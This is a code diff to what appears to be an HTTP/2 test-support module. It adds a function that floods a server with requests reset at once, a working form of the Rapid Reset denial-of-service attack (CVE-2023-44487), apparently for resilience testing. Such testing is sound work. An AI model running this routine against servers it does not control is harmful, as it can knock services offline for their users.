@@ -9,6 +9,7 @@ from urllib.parse import urlsplit
 
 import h2.config
 import h2.connection
+import h2.exceptions
 
 from tests.support.h2_client import unverified_h2_context
 
@@ -50,3 +51,26 @@ async def churn(url: str, count: int, parallel: int = 16) -> int:
 
     await asyncio.gather(*(worker() for _ in range(parallel)))
     return failed
+
+
+async def rapid_reset(url: str, streams: int, path: str = "/getServerTime.json") -> None:
+    """Open `streams` requests on one connection, resetting each at once (CVE-2023-44487),
+    then read until the server closes the connection or goes quiet."""
+    reader, writer = await open_tls(url)
+    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
+    conn.initiate_connection()
+    authority = urlsplit(url).netloc
+    head = [(":method", "GET"), (":path", path), (":scheme", "https"), (":authority", authority)]
+    try:
+        for _ in range(streams):
+            stream_id = conn.get_next_available_stream_id()
+            conn.send_headers(stream_id, head, end_stream=True)
+            conn.reset_stream(stream_id)
+            writer.write(conn.data_to_send())
+        await writer.drain()
+        while await asyncio.wait_for(reader.read(65536), 5):
+            pass
+    except (OSError, ssl.SSLError, TimeoutError, h2.exceptions.ProtocolError):
+        pass
+    finally:
+        writer.transport.abort()
